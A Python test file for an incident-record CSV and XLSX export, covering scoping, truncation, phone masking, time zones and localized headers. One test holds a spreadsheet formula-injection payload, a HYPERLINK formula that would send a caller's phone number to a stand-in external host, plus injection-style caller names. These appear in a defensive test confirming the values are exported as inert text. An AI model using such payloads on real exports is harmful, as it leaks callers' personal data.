"""The incidents export: filtered and scoped like the list, capped, in the user's language and time, and
with every caller's text written as text (a formula in an address is never evaluated)."""

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from incidents.models import Incident

from .conftest import api_as, call

HYPERLINK = '=HYPERLINK("http://x/?p="&H2,"详情")'
ZH_HEADER = ["警情编号", "状态", "状态代码", "类别代码", "警情类别", "警情等级", "事发地址", "报警人", "电话",
             "管辖单位", "报警时间", "派警时间", "到达现场时间", "结案时间"]  # fmt: skip
EN_HEADER = ["Number", "State", "State code", "Category code", "Category", "Incident level", "Address", "Caller",
             "Phone", "Responsible org", "Reported at", "Dispatched at", "Arrived at", "Closed at"]  # fmt: skip


@pytest.fixture(autouse=True)
def shanghai(settings):
    """The tests' own zone and default language, whatever the environment says."""
    settings.TIME_ZONE = "Asia/Shanghai"
    settings.LANGUAGE_CODE = "zh-hans"


def read_csv(r) -> list[list[str]]:
    return list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))


def read_xlsx(r) -> list[list]:
    return [list(row) for row in load_workbook(io.BytesIO(r.content)).active.iter_rows()]


def test_csv_export_is_filtered_scoped_and_says_its_limit(duty_api, coded, settings):
    duty_api.post("/api/incidents/", call(), format="json")
    duty_api.post("/api/incidents/", call(category="030100", lat=30.25, lon=120.10), format="json")
    r = duty_api.get("/api/incidents/export/", {"file": "csv", "category": "02"})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    rows = read_csv(r)
    assert rows[0] == ZH_HEADER and len(rows) == 2 and rows[1][3] == "020500"
    assert r["X-Export-Limit"] == str(settings.EXPORT_MAX_ROWS) and r["X-Export-Truncated"] == "false"
    # Station B sees none of station A's incidents in an export either.
    other = api_as(coded.station_b1_officer).get("/api/incidents/export/", {"file": "csv"})
    assert [r[3] for r in read_csv(other)][1:] == ["030100"]


def test_xlsx_export_and_truncation(duty_api, settings):
    settings.EXPORT_MAX_ROWS = 1
    duty_api.post("/api/incidents/", call(), format="json")
    duty_api.post("/api/incidents/", call(), format="json")
    r = duty_api.get("/api/incidents/export/", {"file": "xlsx"})
    assert r.status_code == 200 and r["X-Export-Truncated"] == "true" and r["X-Export-Rows"] == "1"
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws.max_row == 2


def test_export_masks_phones_for_partners(duty_api, coded):
    inc = duty_api.post("/api/incidents/", call(caller_phone="13812345678"), format="json").json()
    duty_api.post(f"/api/incidents/{inc['id']}/divert/", {"partner": coded.partner.pk}, format="json")
    r = api_as(coded.partner_agent).get("/api/incidents/export/", {"file": "csv"})
    assert "电话" not in r.content.decode("utf-8-sig") and "13812345678" not in r.content.decode(
        "utf-8-sig"
    )  # no caller column for a partner


def test_export_refuses_unknown_formats(duty_api):
    assert duty_api.get("/api/incidents/export/", {"file": "pdf"}).status_code == 400


def test_caller_text_is_written_as_text_never_as_a_formula(duty_api, coded):
    """An address that is a formula reading the caller's phone (H2) and sending it off-site, and callers'
    names that Excel would evaluate: string cells in XLSX, `'`-prefixed cells in CSV, exactly as typed."""
    names = ["@SUM(1+1)", "+1", "-1+2"]
    for name in names:
        duty_api.post("/api/incidents/", call(address=HYPERLINK, caller_name=name), format="json")
    # Intake trims a leading TAB; a row loaded another way (an import, older data) can still hold one.
    tab = duty_api.post("/api/incidents/", call(address=HYPERLINK), format="json").json()["id"]
    Incident.objects.filter(pk=tab).update(caller_name="\t=1")
    names.append("\t=1")

    rows = read_xlsx(duty_api.get("/api/incidents/export/", {"file": "xlsx"}))
    address, caller = ZH_HEADER.index("事发地址"), ZH_HEADER.index("报警人")
    assert len(rows) == 5
    for row in rows[1:]:
        assert (row[address].value, row[address].data_type) == (HYPERLINK, "s")
        assert row[caller].data_type == "s"
    assert sorted(row[caller].value for row in rows[1:]) == sorted(names)
    assert all(c.data_type != "f" for row in rows for c in row)

    rows = read_csv(duty_api.get("/api/incidents/export/", {"file": "csv"}))
    assert {row[address] for row in rows[1:]} == {"'" + HYPERLINK}
    assert sorted(row[caller] for row in rows[1:]) == sorted("'" + n for n in names)


def test_a_control_character_in_an_address_does_not_break_the_workbook(duty_api):
    duty_api.post("/api/incidents/", call(address="东湖路\x0112号"), format="json")
    r = duty_api.get("/api/incidents/export/", {"file": "xlsx"})
    assert r.status_code == 200 and read_xlsx(r)[1][ZH_HEADER.index("事发地址")].value == "东湖路\ufffd12号"


def test_times_are_shanghai_time_with_the_offset_and_codes_have_columns_of_their_own(duty_api):
    duty_api.post("/api/incidents/", call(reported_at="2026-12-06T12:00:00Z", level=2), format="json")
    expected = {
        "状态": "01 已接警",
        "状态代码": "received",
        "类别代码": "020500",
        "警情类别": "噪音扰民",
        "警情等级": 2,
        "报警时间": "2026-12-06 20:00:00 +08:00",
        "派警时间": None,
    }
    xlsx_row = read_xlsx(duty_api.get("/api/incidents/export/", {"file": "xlsx"}))[1]
    xlsx = dict(zip(ZH_HEADER, [c.value for c in xlsx_row], strict=True))
    assert {k: xlsx[k] for k in expected} == expected
    csv_row = dict(zip(ZH_HEADER, read_csv(duty_api.get("/api/incidents/export/", {"file": "csv"}))[1], strict=True))
    assert {k: csv_row[k] for k in expected} == {k: "" if v is None else str(v) for k, v in expected.items()}


def test_headers_and_labels_follow_the_language_the_user_chose(duty_api, settings):
    duty_api.post("/api/incidents/", call(reported_at=datetime(2026, 12, 6, 12, tzinfo=UTC).isoformat()), format="json")
    assert read_csv(duty_api.get("/api/incidents/export/", {"file": "csv"}))[0] == ZH_HEADER
    duty_api.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    rows = read_csv(duty_api.get("/api/incidents/export/", {"file": "csv"}))
    assert rows[0] == EN_HEADER
    row = dict(zip(EN_HEADER, rows[1], strict=True))
    assert (row["State"], row["State code"], row["Category"]) == ("01 Received", "received", "Noise nuisance")
    assert row["Reported at"] == "2026-12-06 20:00:00 +08:00"  # the time does not change with the language
    xlsx = read_xlsx(duty_api.get("/api/incidents/export/", {"file": "xlsx"}))
    assert [c.value for c in xlsx[0]] == EN_HEADER


def test_the_file_is_named_for_when_it_was_made(duty_api):
    r = duty_api.get("/api/incidents/export/", {"file": "xlsx"})
    disposition = r["Content-Disposition"]
    assert disposition.startswith('attachment; filename="incidents-') and disposition.endswith('.xlsx"')
    stamp = disposition.removeprefix('attachment; filename="incidents-').removesuffix('.xlsx"')
    assert len(stamp) == 13 and stamp[8] == "-" and stamp.replace("-", "").isdigit()
